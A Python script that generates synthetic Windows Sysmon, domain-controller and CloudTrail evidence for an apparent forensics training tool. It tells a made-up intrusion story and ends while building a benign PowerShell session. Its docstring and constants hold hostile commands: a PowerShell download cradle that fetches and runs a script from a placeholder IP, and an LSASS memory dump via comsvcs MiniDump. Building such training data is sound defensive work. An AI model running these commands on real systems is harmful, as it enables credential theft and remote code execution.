#!/usr/bin/env python3
"""Generate Quarry's built-in sample evidence (a made-up intrusion story).

The story (all times UTC, 2026-03-14, company ``corp.example``):

* 07:50  workstation WS01.corp.example (10.0.1.15) boots; 07:58 ``corp\\alice``
  logs on.  alice is an IT administrator (member of Domain Admins) and also
  has an IAM user ``alice`` with CLI access keys in AWS account 111122223333.
  Her usual egress IP, as seen by AWS, is the office NAT 192.0.2.10.
* 09:11  alice opens a phishing attachment ``Invoice_2026-0314.docm`` from
  Outlook.  The macro makes WINWORD.EXE start
  ``powershell.exe -NoP -W Hidden -EncodedCommand ...`` (a download cradle
  for http://203.0.113.45/a.ps1), which drops and runs
  ``C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe``.  upd.exe beacons to
  msupdate.example.net (203.0.113.45:443) and persists through the HKCU
  ``Run\\Updater`` value.
* 09:28  upd.exe elevates itself with the fodhelper.exe / ms-settings UAC
  bypass, opens lsass.exe (GrantedAccess 0x1010), dumps it with
  ``rundll32 comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full`` and uploads the
  dump.  At 09:40 it reads ``C:\\Users\\alice\\.aws\\credentials``.
* 09:45  Kerberoasting: from WS01, alice's account requests 20 RC4 (0x17)
  service tickets for service accounts on DC01.corp.example within 2 minutes.
* 10:04  Lateral movement: three failed NTLM network logons for alice from
  10.0.1.15, then a pass-the-hash NTLM logon (type 3) on DC01, ADMIN$ access,
  and a new service ``UpdaterSvc`` (C:\\Windows\\Temp\\upd.exe) that runs
  discovery commands as SYSTEM.
* 11:18  AWS: alice's stolen access key is used from 198.51.100.77 (never
  seen before) to assume ``OrganizationAccountAccessRole``; the session lists
  buckets, downloads two objects from ``corp-finance-reports``, stops the
  ``corp-audit-trail`` trail, and turns the role session into a console
  session (ConsoleLogin with MFAUsed = "No").
* 15:50  bob notices the stopped trail and restarts it (incident response).

Around this, ordinary activity of the day (boot, logons, browsers,
Teams, Kerberos traffic of five workstations and a file server, CI
deployments in AWS, console logins with MFA...) is generated as noise.

Output (all UTC, time-ordered within each file), in ``evidence/`` next to
this script:

* ``ws01-sysmon.json``   Sysmon events of WS01 in evtx_dump JSON style
  (pretty-printed objects, concatenated, newline-separated).
* ``dc01-security.jsonl`` Security/System/Application events of DC01, one flat
  NXLog-style JSON object per line.
* ``cloudtrail.json``   CloudTrail ``{"Records": [...]}`` of the account.

The output is deterministic (fixed seed, no clock, no environment input):
running the script twice gives byte-identical files.  ``--timeline`` prints
the malicious/response events as a Markdown table (used for STORY.md).
Standard library only.
"""

import base64
import hashlib
import json
import os
import random
import sys
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20260314
R = random.Random(SEED)

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "evidence")

DAY = datetime(2026, 3, 14, tzinfo=timezone.utc)


def T(hms):
    """'09:12:03.227' -> datetime on the story day (ms or us precision)."""
    h, m, s = hms.split(":")
    if "." in s:
        sec, frac = s.split(".")
        us = int(frac.ljust(6, "0"))
    else:
        sec, us = s, 0
    return DAY + timedelta(hours=int(h), minutes=int(m), seconds=int(sec),
                           microseconds=us)


def rand_time(start, end):
    """Uniform random time (ms precision) between two 'HH:MM:SS' strings."""
    a, b = T(start), T(end)
    span_ms = int((b - a).total_seconds() * 1000)
    return a + timedelta(milliseconds=R.randrange(span_ms))


def ms(t, n):
    return t + timedelta(milliseconds=n)


def hexstr(n):
    return "".join(R.choice("0123456789ABCDEF") for _ in range(n))


def rguid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def stable_hex(kind, key, n):
    """Hash-like hex that depends only on the key (not on RNG order)."""
    h = hashlib.sha256(("quarry-sample:%s:%s" % (kind, key)).encode()).hexdigest()
    while len(h) < n:
        h += hashlib.sha256(h.encode()).hexdigest()
    return h[:n].upper()


# Labels attached to events (never written to the evidence files).
MAL = "malicious"
RESP = "response"

# ---------------------------------------------------------------------------
# Identities
# ---------------------------------------------------------------------------
DOMAIN_SID = "S-1-5-21-2817364910-3861504417-1279558210"
NETBIOS = "CORP"
REALM = "CORP.EXAMPLE"
USERS = {  # name -> RID
    "Administrator": 500, "krbtgt": 502,
    "alice": 1104, "bob": 1105, "carol": 1106, "dave": 1107, "erin": 1108,
    "svc_sql": 1120, "svc_web": 1121, "svc_backup": 1122, "svc_sccm": 1123,
    "svc_exchange": 1124, "svc_iis": 1125, "svc_sharepoint": 1126,
    "svc_adfs": 1127, "svc_print": 1128, "svc_ftp": 1129, "svc_jenkins": 1130,
    "svc_tableau": 1131, "svc_vpn": 1132, "svc_ldapsync": 1133,
    "svc_wsus": 1134, "svc_monitor": 1135, "svc_crm": 1136, "svc_hrapp": 1137,
    "svc_scan": 1138, "svc_veeam": 1139, "svc_splunk": 1140,
    "DC01$": 1000, "WS01$": 1601, "WS02$": 1602, "WS03$": 1603,
    "WS04$": 1604, "WS05$": 1605, "FS01$": 1610,
}


def sid(name):
    return "%s-%d" % (DOMAIN_SID, USERS[name])


HOSTS = {  # short name -> IPv4
    "DC01": "10.0.1.10", "WS01": "10.0.1.15", "WS02": "10.0.1.16",
    "WS03": "10.0.1.17", "WS04": "10.0.1.18", "WS05": "10.0.1.19",
    "FS01": "10.0.1.20", "MFP01": "10.0.1.50",
}
WORKSTATION_OF = {"alice": "WS01", "bob": "WS02", "carol": "WS03",
                  "dave": "WS04", "erin": "WS05"}

C2_IP = "203.0.113.45"
C2_HOST = "msupdate.example.net"
ATTACKER_IP = "198.51.100.77"
OFFICE_IP = "192.0.2.10"
CI_IP = "198.51.100.20"

PS_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')" % C2_IP
PS_B64 = base64.b64encode(PS_CRADLE.encode("utf-16-le")).decode("ascii")

UPD_WS = r"C:\Users\alice\AppData\Local\Temp\upd.exe"
UPD_DC = r"C:\Windows\Temp\upd.exe"
DOCM = (r"C:\Users\alice\AppData\Local\Microsoft\Windows\INetCache"
        r"\Content.Outlook\Q8ZK2M1T\Invoice_2026-0314.docm")

# ===========================================================================
# WS01 - Sysmon
# ===========================================================================
WS_PREFIX = "B6E1F3A2"
_guid_counter = [0x2A10]

WIN_VER = "10.0.22621.3235 (WinBuild.160101.0800)"
MS_WIN = "Microsoft® Windows® Operating System"
MS = "Microsoft Corporation"
META = {  # image basename (lower) -> FileVersion, Description, Product, Company, OriginalFileName
    "smss.exe": (WIN_VER, "Windows Session Manager", MS_WIN, MS, "smss.exe"),
    "csrss.exe": (WIN_VER, "Client Server Runtime Process", MS_WIN, MS, "CSRSS.Exe"),
    "wininit.exe": (WIN_VER, "Windows Start-Up Application", MS_WIN, MS, "WinInit.exe"),
    "winlogon.exe": (WIN_VER, "Windows Logon Application", MS_WIN, MS, "WINLOGON.EXE"),
    "services.exe": (WIN_VER, "Services and Controller app", MS_WIN, MS, "services.exe"),
    "lsass.exe": (WIN_VER, "Local Security Authority Process", MS_WIN, MS, "lsass.exe"),
    "svchost.exe": (WIN_VER, "Host Process for Windows Services", MS_WIN, MS, "svchost.exe"),
    "spoolsv.exe": (WIN_VER, "Spooler SubSystem App", MS_WIN, MS, "spoolsv.exe"),
    "msmpeng.exe": ("4.18.24020.7 (WinBuild.160101.0800)", "Antimalware Service Executable", MS_WIN, MS, "MsMpEng.exe"),
    "userinit.exe": (WIN_VER, "Userinit Logon Application", MS_WIN, MS, "USERINIT.EXE"),
    "explorer.exe": (WIN_VER, "Windows Explorer", MS_WIN, MS, "EXPLORER.EXE"),
    "securityhealthsystray.exe": (WIN_VER, "Windows Security notification icon", MS_WIN, MS, "SecurityHealthSystray.exe"),
    "onedrive.exe": ("24.020.0128.0003", "Microsoft OneDrive", "Microsoft OneDrive", MS, "OneDrive.exe"),
    "ms-teams.exe": ("24033.813.2773.520", "Microsoft Teams", "Microsoft Teams", MS, "ms-teams.exe"),
    "msedgewebview2.exe": ("122.0.2365.80", "Microsoft Edge WebView2", "Microsoft Edge WebView2", MS, "msedgewebview2.exe"),
    "outlook.exe": ("16.0.17328.20162", "Microsoft Outlook", "Microsoft Outlook", MS, "Outlook.exe"),
    "winword.exe": ("16.0.17328.20162", "Microsoft Word", "Microsoft Office", MS, "WinWord.exe"),
    "chrome.exe": ("122.0.6261.129", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "powershell.exe": ("10.0.22621.3233 (WinBuild.160101.0800)", "Windows PowerShell", MS_WIN, MS, "PowerShell.EXE"),
    "conhost.exe": (WIN_VER, "Console Window Host", MS_WIN, MS, "CONHOST.EXE"),
    "cmd.exe": (WIN_VER, "Windows Command Processor", MS_WIN, MS, "Cmd.Exe"),
    "fodhelper.exe": (WIN_VER, "Features On Demand Helper", MS_WIN, MS, "FodHelper.EXE"),
    "rundll32.exe": (WIN_VER, "Windows host process (Rundll32)", MS_WIN, MS, "RUNDLL32.EXE"),
    "taskhostw.exe": (WIN_VER, "Host Process for Windows Tasks", MS_WIN, MS, "taskhostw.exe"),
    "runtimebroker.exe": (WIN_VER, "Runtime Broker", MS_WIN, MS, "RuntimeBroker.exe"),
    "searchprotocolhost.exe": ("7.0.22621.3235 (WinBuild.160101.0800)", "Microsoft Windows Search Protocol Host", MS_WIN, MS, "SearchProtocolHost.exe"),
    "backgroundtaskhost.exe": (WIN_VER, "Background Task Host", MS_WIN, MS, "backgroundTaskHost.exe"),
    "wmiprvse.exe": (WIN_VER, "WMI Provider Host", MS_WIN, MS, "Wmiprvse.exe"),
    "mpcmdrun.exe": ("4.18.24020.7 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility", MS_WIN, MS, "MpCmdRun.exe"),
    "compattelrunner.exe": (WIN_VER, "Microsoft Compatibility Telemetry", MS_WIN, MS, "CompatTelRunner.exe"),
    "googleupdate.exe": ("1.3.36.372", "Google Installer", "Google Update", "Google LLC", "GoogleUpdate.exe"),
    "dllhost.exe": (WIN_VER, "COM Surrogate", MS_WIN, MS, "dllhost.exe"),
    "sppsvc.exe": (WIN_VER, "Microsoft Software Protection Platform Service", MS_WIN, MS, "sppsvc.exe"),
    "aws.exe": ("-", "-", "-", "-", "-"),
    "notepad.exe": (WIN_VER, "Notepad", MS_WIN, MS, "NOTEPAD.EXE"),
    "upd.exe": ("1.0.3.1", "Update Helper Service", "Update Helper", "-", "stub.exe"),
}


def basename(path):
    return path.replace("/", "\\").rsplit("\\", 1)[-1]


def hashes_for(image):
    key = basename(image).lower()
    return "MD5=%s,SHA256=%s,IMPHASH=%s" % (
        stable_hex("md5", key, 32), stable_hex("sha256", key, 64),
        stable_hex("imphash", key, 32))


def sysmon_guid(t, low):
    h = "%08X" % int(t.timestamp())
    return "%s-%s-%s-%s" % (WS_PREFIX, h[4:], h[:4], low)


class Logon(object):
    def __init__(self, t, logon_id, user, session):
        self.id = "0x%x" % logon_id
        le = logon_id.to_bytes(4, "little").hex().upper()
        self.guid = sysmon_guid(t, "%s-%s00000000" % (le[:4], le[4:]))
        self.user = user
        self.session = session


class Proc(object):
    def __init__(self, t, pid, image, cmd, logon, integrity, parent, cwd=None):
        _guid_counter[0] += R.randrange(1, 40)
        self.t = t
        self.guid = sysmon_guid(t, "%04X-000000001C00" % (_guid_counter[0] & 0xFFFF))
        self.pid = pid
        self.image = image
        self.cmd = cmd
        self.logon = logon
        self.integrity = integrity
        self.parent = parent
        self.cwd = cwd or "C:\\Windows\\system32\\"

    @property
    def user(self):
        return self.logon.user


SYSMON_EVENTS = []  # (t, seq, eid, eventdata, label, note)
_seq = [0]


def _add_sysmon(t, eid, data, label=None, note=None):
    _seq[0] += 1
    SYSMON_EVENTS.append((t, _seq[0], eid, data, label, note))


def utc(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)


def s_proc_create(p, label=None, note=None):
    meta = META[basename(p.image).lower()]
    par = p.parent
    data = {
        "RuleName": "-",
        "UtcTime": utc(p.t),
        "ProcessGuid": p.guid,
        "ProcessId": p.pid,
        "Image": p.image,
        "FileVersion": meta[0],
        "Description": meta[1],
        "Product": meta[2],
        "Company": meta[3],
        "OriginalFileName": meta[4],
        "CommandLine": p.cmd,
        "CurrentDirectory": p.cwd,
        "User": p.user,
        "LogonGuid": p.logon.guid,
        "LogonId": p.logon.id,
        "TerminalSessionId": p.logon.session,
        "IntegrityLevel": p.integrity,
        "Hashes": hashes_for(p.image),
        "ParentProcessGuid": par.guid if par else "00000000-0000-0000-0000-000000000000",
        "ParentProcessId": par.pid if par else 4,
        "ParentImage": par.image if par else "System",
        "ParentCommandLine": par.cmd if par else "",
        "ParentUser": par.user if par else "NT AUTHORITY\\SYSTEM",
    }
    _add_sysmon(p.t, 1, data, label, note)


def s_proc_term(t, p, label=None, note=None):
    _add_sysmon(t, 5, {
        "RuleName": "-", "UtcTime": utc(t), "ProcessGuid": p.guid,
        "ProcessId": p.pid, "Image": p.image, "User": p.user,
    }, label, note)


PORT_NAMES = {53: "domain", 80: "http", 88: "kerberos", 135: "epmap",
              389: "ldap", 443: "https", 445: "microsoft-ds", 3268: "msft-gc"}


def s_net(t, p, dst_ip, dst_port, proto="tcp", dst_host="-", src_port=None,
          label=None, note=None):
    src_port = src_port or R.randrange(49700, 65000)
    _add_sysmon(t, 3, {
        "RuleName": "-",
        "UtcTime": utc(t),
        "ProcessGuid": p.guid,
        "ProcessId": p.pid,
        "Image": p.image,
        "User": p.user,
        "Protocol": proto,
        "Initiated": True,
        "SourceIsIpv6": False,
        "SourceIp": HOSTS["WS01"],
        "SourceHostname": "WS01.corp.example",
        "SourcePort": src_port,
        "SourcePortName": "-",
        "DestinationIsIpv6": False,
        "DestinationIp": dst_ip,
        "DestinationHostname": dst_host,
        "DestinationPort": dst_port,
        "DestinationPortName": PORT_NAMES.get(dst_port, "-"),
    }, label, note)


def s_dns(t, p, name, results, label=None, note=None):
    _add_sysmon(t, 22, {
        "RuleName": "-", "UtcTime": utc(t), "ProcessGuid": p.guid,
        "ProcessId": p.pid, "QueryName": name, "QueryStatus": "0",
        "QueryResults": results, "Image": p.image, "User": p.user,
    }, label, note)


def s_file(t, p, path, label=None, note=None):
    _add_sysmon(t, 11, {
        "RuleName": "-", "UtcTime": utc(t), "ProcessGuid": p.guid,
        "ProcessId": p.pid, "Image": p.image, "TargetFilename": path,
        "CreationUtcTime": utc(t), "User": p.user,
    }, label, note)


def s_reg_set(t, p, key, details, label=None, note=None):
    _add_sysmon(t, 13, {
        "RuleName": "-", "EventType": "SetValue", "UtcTime": utc(t),
        "ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image,
        "TargetObject": key, "Details": details, "User": p.user,
    }, label, note)


def s_reg_delete(t, p, key, label=None, note=None):
    _add_sysmon(t, 12, {
        "RuleName": "-", "EventType": "DeleteKey", "UtcTime": utc(t),
        "ProcessGuid": p.guid, "ProcessId": p.pid, "Image": p.image,
        "TargetObject": key, "User": p.user,
    }, label, note)


def s_access(t, src, tgt, access, calltrace, src_tid, label=None, note=None):
    _add_sysmon(t, 10, {
        "RuleName": "-", "UtcTime": utc(t),
        "SourceProcessGUID": src.guid, "SourceProcessId": src.pid,
        "SourceThreadId": src_tid, "SourceImage": src.image,
        "TargetProcessGUID": tgt.guid, "TargetProcessId": tgt.pid,
        "TargetImage": tgt.image, "GrantedAccess": access,
        "CallTrace": calltrace, "SourceUser": src.user, "TargetUser": tgt.user,
    }, label, note)


SYSMON_VERSION = {1: 5, 3: 5, 5: 3, 10: 3, 11: 2, 12: 2, 13: 2, 22: 5}


def ip_doc():
    """A 'normal' internet destination (documentation range)."""
    return "192.0.2.%d" % R.randrange(30, 250)


def build_ws01():
    sys32 = "C:\\Windows\\System32\\"
    boot = T("07:50:11.402")
    SYSTEM = Logon(boot, 0x3E7, "NT AUTHORITY\\SYSTEM", 0)
    NETSVC = Logon(boot, 0x3E4, "NT AUTHORITY\\NETWORK SERVICE", 0)

    # ---- boot ------------------------------------------------------------
    t = boot
    smss = Proc(t, 340, sys32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe", SYSTEM, "System", None)
    s_proc_create(smss)
    smss0 = Proc(ms(t, 402), 428, sys32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe 00000100 00000048", SYSTEM, "System", smss)
    csrss0 = Proc(ms(t, 611), 452, sys32 + "csrss.exe", "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16", SYSTEM, "System", smss0)
    wininit = Proc(ms(t, 803), 528, sys32 + "wininit.exe", "wininit.exe", SYSTEM, "System", smss0)
    s_proc_create(wininit)
    smss1 = Proc(ms(t, 851), 536, sys32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe 000000fc 00000084", SYSTEM, "System", smss)
    winlogon = Proc(ms(t, 1190), 604, sys32 + "winlogon.exe", "winlogon.exe", Logon(boot, 0x3E7, "NT AUTHORITY\\SYSTEM", 1), "System", smss1)
    s_proc_create(winlogon)
    services = Proc(ms(t, 1311), 612, sys32 + "services.exe", "C:\\Windows\\system32\\services.exe", SYSTEM, "System", wininit)
    s_proc_create(services)
    lsass = Proc(ms(t, 1340), 624, "C:\\Windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", SYSTEM, "System", wininit)
    s_proc_create(lsass)
    svc_dcom = Proc(ms(t, 2012), 792, sys32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", SYSTEM, "System", services)
    s_proc_create(svc_dcom)
    Proc(ms(t, 2260), 880, sys32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k RPCSS -p", NETSVC, "System", services)
    svc_dns = Proc(ms(t, 3015), 1348, sys32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", NETSVC, "System", services)
    s_proc_create(svc_dns)
    svc_net = Proc(ms(t, 3120), 1416, sys32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", SYSTEM, "System", services)
    s_proc_create(svc_net)
    svc_sched = Proc(ms(t, 3342), 1580, sys32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYSTEM, "System", services)
    s_proc_create(svc_sched)
    Proc(ms(t, 5511), 2688, sys32 + "spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", SYSTEM, "System", services)
    defender = Proc(ms(t, 6102), 3120, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe\"", SYSTEM, "System", services)
    s_proc_create(defender)
    s_net(T("07:50:19.884"), svc_dns, HOSTS["DC01"], 53, "udp", "DC01.corp.example")
    s_net(T("07:50:20.113"), lsass, HOSTS["DC01"], 88, "tcp", "DC01.corp.example")

    # ---- alice logs on -----------------------------------------------------
    tl = T("07:58:20.311")
    ALICE = Logon(tl, 0x3A2F41, "CORP\\alice", 1)
    ALICE_ELEV = Logon(tl, 0x3A2EE0, "CORP\\alice", 1)  # linked elevated token
    user_home = "C:\\Users\\alice\\"
    alice_run = "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\" % sid("alice")
    userinit = Proc(ms(tl, 1502), 7720, sys32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe", ALICE, "Medium", winlogon)
    s_proc_create(userinit)
    explorer = Proc(ms(tl, 1987), 7804, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", ALICE, "Medium", userinit, user_home)
    s_proc_create(explorer)
    s_proc_term(ms(tl, 9541), userinit)
    s_net(ms(tl, 410), lsass, HOSTS["DC01"], 88, "tcp", "DC01.corp.example")
    s_net(ms(tl, 2333), svc_net, HOSTS["DC01"], 445, "tcp", "DC01.corp.example")
    tray = Proc(ms(tl, 14220), 8112, sys32 + "SecurityHealthSystray.exe", "\"C:\\Windows\\System32\\SecurityHealthSystray.exe\"", ALICE, "Medium", explorer, user_home)
    s_proc_create(tray)
    onedrive = Proc(ms(tl, 15871), 8240, user_home + "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", ALICE, "Medium", explorer, user_home)
    s_proc_create(onedrive)
    s_reg_set(ms(tl, 17004), onedrive, alice_run + "OneDrive", "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background")
    teams_img = "C:\\Program Files\\WindowsApps\\MSTeams_24033.813.2773.520_x64__8wekyb3d8bbwe\\ms-teams.exe"
    teams = Proc(ms(tl, 18620), 8388, teams_img, "\"%s\" msteams:system-initiated" % teams_img, ALICE, "Medium", explorer, user_home)
    s_proc_create(teams)
    wv_img = "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\122.0.2365.80\\msedgewebview2.exe"
    webview = Proc(ms(tl, 20117), 8516, wv_img, "\"%s\" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --user-data-dir=\"C:\\Users\\alice\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\EBWebView\" --noerrdialogs" % wv_img, ALICE, "Medium", teams, user_home)
    s_proc_create(webview)
    s_dns(ms(tl, 21003), teams, "teams.microsoft.com", "type:  5 teams.office.com;::ffff:192.0.2.131;")
    s_net(ms(tl, 21190), teams, "192.0.2.131", 443)
    s_dns(ms(tl, 22514), onedrive, "g.live.com", "::ffff:192.0.2.77;")
    s_net(ms(tl, 22670), onedrive, "192.0.2.77", 443)

    outlook_img = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    outlook = Proc(T("08:01:12.840"), 9012, outlook_img, "\"%s\" " % outlook_img, ALICE, "Medium", explorer, user_home)
    s_proc_create(outlook)
    s_dns(T("08:01:14.102"), outlook, "outlook.office365.com", "type:  5 outlook.ha.office365.com;::ffff:192.0.2.52;")
    s_net(T("08:01:14.266"), outlook, "192.0.2.52", 443)
    chrome_img = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    chrome = Proc(T("08:03:40.518"), 9420, chrome_img, "\"%s\" " % chrome_img, ALICE, "Medium", explorer, user_home)
    s_proc_create(chrome)
    gpu = Proc(T("08:03:40.902"), 9488, chrome_img, "\"%s\" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA== --mojo-platform-channel-handle=1984 /prefetch:2" % chrome_img, ALICE, "Low", chrome, user_home)
    s_proc_create(gpu)
    net_util = Proc(T("08:03:41.017"), 9532, chrome_img, "\"%s\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2192 /prefetch:3" % chrome_img, ALICE, "Medium", chrome, user_home)
    s_proc_create(net_util)
    renderers = []
    for i, tt in enumerate(["08:03:42.210", "10:48:03.115"]):
        r = Proc(T(tt), 9640 + 96 * i, chrome_img, "\"%s\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=%d --mojo-platform-channel-handle=%d /prefetch:1" % (chrome_img, 7 + i, 3120 + 44 * i), ALICE, "Low", chrome, user_home)
        s_proc_create(r)
        renderers.append(r)

    # browsing and Teams/Outlook traffic over the day
    sites = [("www.google.com", None), ("mail.google.com", None),
             ("login.microsoftonline.com", None), ("github.com", None),
             ("docs.python.org", "type:  5 dualstack.python.map.fastly.net;"),
             ("confluence.corp.example", "internal"),
             ("jira.corp.example", "internal"), ("console.aws.amazon.com", None),
             ("www.bbc.co.uk", None), ("stackoverflow.com", None),
             ("intranet.corp.example", "internal"), ("calendar.google.com", None)]
    for start, end, n in [("08:04:00", "08:59:00", 2), ("09:50:00", "11:59:00", 1),
                          ("12:40:00", "15:59:00", 3), ("16:00:00", "17:30:00", 1)]:
        for _ in range(n):
            tt = rand_time(start, end)
            name, cname = sites[R.randrange(len(sites))]
            if cname == "internal":
                ip = "10.0.2.%d" % R.randrange(20, 40)
                s_dns(tt, net_util, name, "::ffff:%s;" % ip)
                s_net(ms(tt, R.randrange(40, 300)), net_util, ip, 443, dst_host=name)
            else:
                ip = ip_doc()
                s_dns(tt, net_util, name, "%s::ffff:%s;" % (cname or "", ip))
                s_net(ms(tt, R.randrange(40, 300)), net_util, ip, 443)
    for start, end in [("15:00:00", "15:59:00")]:
        s_net(rand_time(start, end), teams, "192.0.2.131", 443)
        s_net(rand_time(start, end), outlook, "192.0.2.52", 443)
    s_net(rand_time("12:00:00", "12:30:00"), webview, "192.0.2.140", 443)

    # benign file creations
    att = user_home + "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8ZK2M1T\\"
    s_file(T("08:22:31.440"), outlook, att + "Team-offsite-agenda.pdf")
    s_file(T("08:47:09.118"), chrome, user_home + "Downloads\\Q1-roadmap.pdf")
    s_file(T("13:41:55.631"), chrome, user_home + "Downloads\\vpn-client-guide.pdf")
    s_file(T("16:12:04.902"), teams, user_home + "AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\Logs\\MSTeams_2026-03-14_16-12-04.00.log")

    # scheduled / background system activity (create + terminate pairs)
    def spawn(tt, pid, image, cmd, logon, il, parent, life_ms=None):
        p = Proc(tt, pid, image, cmd, logon, il, parent)
        s_proc_create(p)
        if life_ms:
            s_proc_term(ms(tt, life_ms), p)
        return p

    pid = 10120
    for start, end in [("08:10:00", "08:40:00"), ("12:10:00", "12:40:00"),
                       ("16:30:00", "17:00:00")]:
        spawn(rand_time(start, end), pid, sys32 + "SearchProtocolHost.exe",
              "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21-%s Global\\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 6.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"" % sid("alice")[9:],
              SYSTEM, "System", svc_net)
        pid += 212
    spawn(T("08:15:02.331"), 10644, sys32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", ALICE, "Medium", svc_sched)
    spawn(T("09:00:03.905"), 11020, sys32 + "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", NETSVC, "System", services)
    spawn(T("10:00:01.212"), 11388, "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler", SYSTEM, "System", svc_sched, 6120)
    spawn(T("11:30:44.019"), 11804, sys32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", NETSVC, "System", svc_dcom)
    spawn(T("12:00:00.874"), 12220, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance", SYSTEM, "System", svc_sched, 8840)
    spawn(T("12:30:17.552"), 12604, sys32 + "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", ALICE, "Low", svc_dcom)
    spawn(T("13:05:31.470"), 12988, sys32 + "CompatTelRunner.exe", "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun", SYSTEM, "System", svc_sched)
    spawn(T("15:02:12.118"), 13400, sys32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", ALICE, "Medium", svc_dcom)
    spawn(T("16:45:09.660"), 13812, sys32 + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", ALICE, "Medium", svc_dcom)
    spawn(T("15:21:40.337"), 13604, sys32 + "notepad.exe", "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\alice\\Documents\\change-log.txt", ALICE, "Medium", explorer)
    # Defender opening lsass with limited rights (benign lookalike)
    s_access(T("12:00:03.118"), defender, lsass, "0x1000",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+a0164|C:\\Windows\\System32\\KERNELBASE.dll+2bd5e|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\mpsvc.dll+1f5a31", 3388)
    s_net(T("12:00:04.009"), defender, "192.0.2.201", 443)
    for tt in ["15:05:19.006"]:
        s_net(T(tt), lsass, HOSTS["DC01"], 88, "tcp", "DC01.corp.example")

    # alice's own (benign) admin work: interactive PowerShell + AWS CLI
    ps_user = Proc(T("14:10:05.221"), 14260, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", ALICE, "Medium", explorer, user_home)
    s_proc_create(ps_user)
    ps_con = Proc(T("14:10:05.262"), 14272, sys32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", ALICE, "Medium", ps_user, user_home)
    s_proc_create(ps_con)
